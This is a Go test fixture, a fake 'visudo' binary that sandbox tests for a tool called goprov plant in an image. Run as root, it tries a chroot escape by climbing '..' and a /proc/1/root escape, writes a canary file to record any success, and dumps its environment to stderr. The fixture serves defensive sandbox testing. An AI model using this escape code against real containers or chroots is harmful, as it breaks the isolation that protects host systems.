// Command escape is a hostile "visudo" planted in an image by the sandbox
// tests: run as root by goprov, it tries the classic chroot escape
// (chroot into a subdirectory, climb "..", chroot ".") and the /proc/1/root
// way out, then writes $CANARY on what it hopes is the build machine. It
// also prints its environment on stderr, so a test can see what a child of
// goprov is given. Built static (CGO_ENABLED=0): it needs nothing in the image.
package main

import (
	"fmt"
	"io"
	"os"
	"syscall"
)

// canary is set at build time (-ldflags -X): the environment is not to be
// trusted to carry it.
var canary string

func main() {
	in, _ := io.ReadAll(os.Stdin)
	for _, p := range []string{"/proc/1/root" + canary, canary} {
		_ = os.WriteFile(p, []byte("escaped via /proc\n"), 0o644)
	}
	_ = os.Mkdir(".escape", 0o755)
	if syscall.Chroot(".escape") == nil {
		for i := 0; i < 64; i++ {
			_ = syscall.Chdir("..")
		}
		_ = syscall.Chroot(".")
	}
	_ = os.WriteFile(canary, []byte("escaped via chroot\n"), 0o644)
	if len(in) == 0 {
		return // visudo -c -q -f - on empty input: "can read stdin"
	}
	for _, kv := range os.Environ() {
		fmt.Fprintln(os.Stderr, "ENV", kv)
	}
	os.Exit(1)
}
